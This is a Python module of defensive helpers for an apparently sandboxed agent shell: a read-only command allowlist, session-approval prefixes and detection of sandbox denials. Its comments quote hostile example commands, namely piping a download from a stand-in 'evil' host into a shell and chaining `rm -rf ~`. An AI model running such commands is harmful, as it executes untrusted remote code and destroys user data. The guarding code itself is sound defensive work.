"""Pure helpers about a shell command string: is it a known-safe read, what prefix would a session
approval cover, and does its output look like the sandbox said no."""

from __future__ import annotations

import re
import shlex

# Anything that chains, redirects or substitutes can hide a second command behind a safe first
# word (`ls; curl evil | sh`), so such a command is never "known safe" and never shares a prefix.
_META = re.compile(r"[;&|<>`\n\r]|\$\(|\$\{")

#: The tools whose declaration is a shell command (`!` is the person's own `!cmd`).
COMMAND_TOOLS = frozenset({"bash", "shell", "!"})

_SAFE_WORDS = frozenset(
    "ls cat pwd echo head tail wc grep rg stat file which whoami uname date true tree du df "
    "basename dirname realpath readlink id env printenv nl cut tr uniq".split()
)
_SAFE_GIT = frozenset(
    "status log diff show branch rev-parse ls-files blame remote describe".split()
)
# Options that make a reader write or run something.
_UNSAFE_FLAGS = {"find": ("-exec", "-execdir", "-delete", "-fprint", "-fprintf", "-fls", "-ok")}

_SUBCOMMAND = re.compile(r"^[a-z][a-z0-9-]*$")


def _split(command: str) -> list[str] | None:
    try:
        return shlex.split(command)
    except ValueError:
        return None


def is_known_safe(command: str) -> bool:
    """A small allowlist of read-only commands (`ls`, `cat`, `git status`, ...) that `untrusted`
    runs without asking. Anything it cannot parse with confidence is not safe."""
    if _META.search(command):
        return False
    words = _split(command)
    if not words:
        return False
    head, args = words[0], words[1:]
    if "/" in head or "=" in head:
        return False
    if head == "git":
        return bool(args) and args[0] in _SAFE_GIT and "--output" not in " ".join(args)
    if head in ("env", "printenv") and any(not a.startswith("-") for a in args[:1]):
        # `env curl evil`, `env X=1 sh`: env runs its arguments (printenv only reads one, but
        # is kept to the same rule: one line, no exception to remember).
        return head == "printenv" and len(args) == 1 and "=" not in args[0]
    if head == "find":
        return not any(a in _UNSAFE_FLAGS["find"] for a in args)
    return head in _SAFE_WORDS


def command_prefix(command: str) -> str:
    """What "approve for session" covers for a command: its first word, plus a subcommand-like
    second word (`npm install`, `git commit`, `make test`). A command that chains or redirects is
    covered only exactly, so approving `make test` never approves `make test; rm -rf ~`."""
    text = command.strip()
    if _META.search(text):
        return text
    words = _split(text)
    if not words:
        return text
    if len(words) > 1 and _SUBCOMMAND.match(words[1]):
        return f"{words[0]} {words[1]}"
    return words[0]


_DENIAL_PATTERNS: tuple[tuple[str, str], ...] = (
    ("write", r"read-only file system"),
    ("write", r"permission denied"),
    ("write", r"operation not permitted"),
    ("write", r"insufficient permission"),
    ("network", r"network is unreachable"),
    ("network", r"temporary failure in name resolution"),
    ("network", r"could not resolve host"),
    ("network", r"name or service not known"),
    ("network", r"failed to establish a new connection"),
    ("network", r"connection refused"),
)

# `touch: cannot touch '/etc/x': Read-only file system`, `bash: /etc/x: Permission denied`,
# `OSError: [Errno 30] Read-only file system: '/etc/x'`
_Q = "'\"‘’`"
_DENIED = r"(?:read-only file system|permission denied|operation not permitted)"
_PATH_IN_ERROR = re.compile(
    # `touch: cannot touch '/etc/a': Read-only file system`, `cannot create a.txt: Read-only ...`
    rf"[{_Q}]?([^\s{_Q}:]+)[{_Q}]?(?=:\s*{_DENIED})"
    # `OSError: [Errno 30] Read-only file system: '/etc/c'`
    rf"|{_DENIED}:?\s*[{_Q}]([^{_Q}]+)[{_Q}]"
    # git: `insufficient permission for adding an object to repository database .git/objects`
    r"|repository database (\S+)",
    re.IGNORECASE,
)


# The allow-listed sandbox shows no folder it was not told to: a write outside lands on a path
# that does not exist inside (`touch: cannot touch '/srv/x/a': No such file or directory`).
_ABSENT = r"(?:no such file or directory|directory nonexistent)"
# Only where the error says a WRITE was attempted (`cat: /x: No such file` is a read, and more
# room would mean making the file writable).
_PATH_ABSENT = re.compile(
    r"(?:cannot (?:create regular file|create directory|create|touch)|can't create)\s+"
    rf"[{_Q}]?(/[^\s{_Q}:]+)[{_Q}]?:\s*{_ABSENT}",
    re.IGNORECASE,
)


def absent_paths(output: str) -> list[str]:
    """Absolute paths an error says do not exist: outside the workspace, under the allow-listed
    view, that is how a folder the sandbox does not show looks from inside."""
    found: list[str] = []
    for m in _PATH_ABSENT.finditer(output):
        p = m.group(1)
        if p and p not in found:
            found.append(p)
    return found


def denial_kinds(output: str) -> set[str]:
    """Which kinds of room the output suggests were missing ("write", "network"); empty when it
    does not look like the sandbox said no."""
    low = output.lower()
    return {kind for kind, rx in _DENIAL_PATTERNS if re.search(rx, low)}


def denied_paths(output: str) -> list[str]:
    """Paths named next to a denial in the output (absolute, or relative to the command's working
    directory, the workspace), in order, without duplicates."""
    found: list[str] = []
    for m in _PATH_IN_ERROR.finditer(output):
        p = m.group(1) or m.group(2) or m.group(3)
        if p and p not in found:
            found.append(p)
    return found
